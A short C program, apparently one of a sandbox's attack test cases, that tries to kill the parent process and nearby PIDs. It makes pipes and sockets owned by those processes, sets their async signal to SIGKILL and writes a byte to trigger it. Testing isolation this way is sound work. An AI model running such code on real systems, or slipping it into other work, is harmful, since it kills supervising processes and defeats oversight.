/* Has the kernel send signals: a file can have an owner, who is told when there is something to read. */
#include "attack.h"

int main(void)
{
    for (int parent = getppid(); parent > 0 && parent > getppid() - 20; parent--) {
        int ends[2];
        if (pipe(ends) != 0) {
            break;
        }
        struct f_owner_ex owner = {F_OWNER_PID, parent};
        if (fcntl(ends[0], F_SETOWN, parent) != 0) {
            fcntl(ends[0], F_SETOWN_EX, &owner);
        }
        fcntl(ends[0], F_SETSIG, SIGKILL);
        fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
        if (write(ends[1], "x", 1) < 0) {
            break;
        }
        close(ends[0]);
        close(ends[1]);
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0) {
            int one = 1;
            ioctl(ends[0], 0x8902, &parent);
            ioctl(ends[0], 0x8901, &parent);
            fcntl(ends[0], F_SETSIG, SIGKILL);
            ioctl(ends[0], FIOASYNC, &one);
            if (write(ends[1], "x", 1) < 0) {
                break;
            }
            close(ends[0]);
            close(ends[1]);
        }
    }
    return 0;
}
